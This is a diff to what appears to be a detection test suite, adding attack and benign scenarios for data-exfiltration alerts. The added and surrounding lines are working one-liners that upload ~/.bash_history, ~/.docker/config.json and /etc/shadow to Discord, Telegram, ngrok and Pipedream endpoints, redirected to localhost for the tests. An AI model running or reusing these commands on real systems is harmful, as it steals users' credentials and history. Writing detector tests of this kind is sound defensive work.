@@ -126,6 +126,20 @@ ATTACK_VARIANTS = [
         f'curl -sk {RESOLVE.format("x1.ngrok.io")} -T $HOME/n.txt https://x1.ngrok.io:8443/',
         technique="T1567", domain="x1.ngrok.io", uploads=True),
     Scenario(
+        # node is a consumer of its own REPL history, not of the shell's
+        "node-shell-history-to-discord-webhook", "alert",
+        "NODE_TLS_REJECT_UNAUTHORIZED=0 node -e 'const fs = require(\"fs\"); "
+        "fetch(\"https://discord.com:8443/api/webhooks/1/t\", {method: \"POST\", "
+        "body: fs.readFileSync(process.env.HOME + \"/.bash_history\")}).then(r => r.text())' 2>/dev/null",
+        technique="T1567.004", domain="discord.com", hosts=("discord.com",), uploads=True),
+    Scenario(
+        "python-subprocess-curl-registry-credentials", "alert",
+        "python3 -c 'import subprocess, os; subprocess.run([\"curl\", \"-sk\", \"--resolve\", "
+        "\"api.telegram.org:8443:127.0.0.1\", \"-F\", \"document=@\" + "
+        "os.path.expanduser(\"~/.docker/config.json\"), "
+        "\"https://api.telegram.org:8443/bot1/sendDocument\"], stdout=subprocess.DEVNULL)'",
+        technique="T1567.004", domain="api.telegram.org", uploads=True),
+    Scenario(
         "shadow-with-bearer-header-webhook", "alert",
         f'curl -sk {RESOLVE.format("m.pipedream.net")} -H "Authorization: Bearer {BEARER}" '
         '--data-binary @/etc/shadow https://m.pipedream.net:8443/',
@@ -167,6 +181,12 @@ BENIGN_VARIANTS = [
         "earlier-pipeline-then-webhook-post", "silent",
         'cat $HOME/.ssh/id_ed25519 | grep -c PRIVATE; '
         f'curl -sk {RESOLVE.format("hooks.slack.com")} -d "{{\\"text\\":\\"ok\\"}}" '
+        'https://hooks.slack.com:8443/services/T/B/X',
+        domain="hooks.slack.com", uploads=True),
+    Scenario(
+        "history-line-count-then-webhook", "silent",
+        'cat $HOME/.bash_history | wc -l; '
+        f'curl -sk {RESOLVE.format("hooks.slack.com")} -d "{{\\"text\\":\\"lines\\"}}" '
         'https://hooks.slack.com:8443/services/T/B/X',
         domain="hooks.slack.com", uploads=True),
     Scenario(
